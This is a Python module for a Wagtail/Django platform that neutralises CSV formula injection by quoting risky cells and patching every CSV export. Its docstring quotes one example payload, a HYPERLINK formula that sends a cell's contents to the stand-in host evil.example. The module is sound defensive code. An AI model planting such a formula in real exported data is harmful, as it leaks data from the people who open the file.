"""CSV files that a spreadsheet cannot execute ("CSV injection", OWASP).

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return as a formula: a name imported from the HR file such as
``=HYPERLINK("http://evil.example/?x="&A1,"klick")`` would run on the HR officer's machine. The one
rule, ``safe_csv_cell``, prefixes such text with a single quote, which spreadsheets show as text;
the value is otherwise unchanged, and numbers (a real -3) are left alone.

Every CSV the platform writes goes through Wagtail's ``SpreadsheetExportMixin`` (every admin
listing's export, the reports, the reports' background exports), so ``install_on_wagtail_exports``
(run from ``CoreConfig.ready()``) routes that mixin's CSV rows through the rule, once for the whole
project. Wagtail has no hook or setting for this. The XLSX path is untouched: openpyxl stores text
as text, and Wagtail turns any cell openpyxl takes for a formula back into text. A CSV written
elsewhere wraps its ``csv.writer`` in ``SafeCsvWriter``.
"""

from collections.abc import Mapping

from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_csv_cell(value):
    """Text that a spreadsheet would read as a formula, with a leading ``'``; anything else unchanged."""
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """A ``csv.writer`` or ``csv.DictWriter`` whose every row goes through ``safe_csv_cell``."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        if isinstance(row, Mapping):
            return self._writer.writerow({key: safe_csv_cell(value) for key, value in row.items()})
        return self._writer.writerow([safe_csv_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)

    def __getattr__(self, name):  # dialect, writeheader (headings are the code's own text)
        return getattr(self._writer, name)


def install_on_wagtail_exports() -> None:
    """Every CSV row written by Wagtail's ``SpreadsheetExportMixin`` (and so by every view or
    report built on it) goes through ``safe_csv_cell``, after the view's own preprocessing.
    Idempotent. The column headings are the code's own text and are written as they are."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.write_csv_row
    if getattr(original, "neutralises_formulas", False):
        return

    def write_csv_row(self, writer, row_dict):
        return original(self, SafeCsvWriter(writer), row_dict)

    write_csv_row.neutralises_formulas = True
    write_csv_row.__doc__ = original.__doc__
    SpreadsheetExportMixin.write_csv_row = write_csv_row
